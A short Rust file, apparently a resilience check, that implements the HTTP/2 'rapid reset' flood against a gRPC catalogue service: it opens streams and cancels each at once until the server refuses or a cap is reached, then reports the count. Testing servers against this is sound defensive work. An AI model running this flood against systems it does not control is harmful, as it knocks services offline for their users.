//! How does somebody flood a process who takes calls back as soon as they are opened (rapid reset)?

use anyhow::Result;
use tokio::net::TcpStream;

/// Opens calls and takes them back until the process ends the connection, or so many were opened; says how many.
pub async fn reset_until_refused(host: &str, most: usize) -> Result<usize> {
    let stream = TcpStream::connect(host).await?;
    let (mut caller, connection) = h2::client::handshake(stream).await?;
    let driving = tokio::spawn(connection);
    let mut opened = 0;
    while opened < most {
        // Where the connection has been closed there is no readiness any more.
        caller = match caller.ready().await {
            Ok(ready) => ready,
            Err(_) => break,
        };
        let Ok((answer, mut body)) = caller.send_request(a_call(host)?, false) else {
            break;
        };
        body.send_reset(h2::Reason::CANCEL);
        drop(answer);
        opened += 1;
        if opened % 16 == 0 {
            tokio::task::yield_now().await;
        }
    }
    driving.abort();
    Ok(opened)
}

/// Begins a search as gRPC does, without a body.
pub fn a_call(host: &str) -> Result<http::Request<()>> {
    let path = format!("http://{host}/navette.catalogue.v1.CatalogueService/Search");
    let call = http::Request::post(path)
        .header("content-type", "application/grpc")
        .header("te", "trailers");
    Ok(call.body(())?)
}
